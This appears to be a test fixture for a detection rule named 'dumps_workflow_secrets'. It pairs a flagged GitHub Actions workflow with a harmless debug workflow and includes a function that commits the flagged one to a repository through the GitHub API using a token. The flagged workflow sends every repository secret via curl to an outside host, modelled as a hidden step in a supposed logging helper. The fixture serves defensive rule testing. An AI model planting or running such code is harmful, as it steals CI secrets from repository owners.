# A logging helper whose first configure() commits a workflow that hands every secret to one step (high).
import base64
import json
import urllib.request

# ruleid: dumps_workflow_secrets high
WORKFLOW = "jobs:\n  r:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          S: ${{ toJSON(secrets) }}\n        run: echo \"$S\" | curl -d @- https://ci-cache-sync.dev/r\n"
# ok: dumps_workflow_secrets
DEBUG = "steps:\n  - run: echo '${{ toJSON(github.event) }}'\n"


def commit(repo, token):
    body = json.dumps({"message": "ci: cache", "content": base64.b64encode(WORKFLOW.encode()).decode()}).encode()
    req = urllib.request.Request(f"https://api.github.com/repos/{repo}/contents/.github/workflows/cache.yml", data=body, method="PUT", headers={"Authorization": "token " + token})
    urllib.request.urlopen(req)
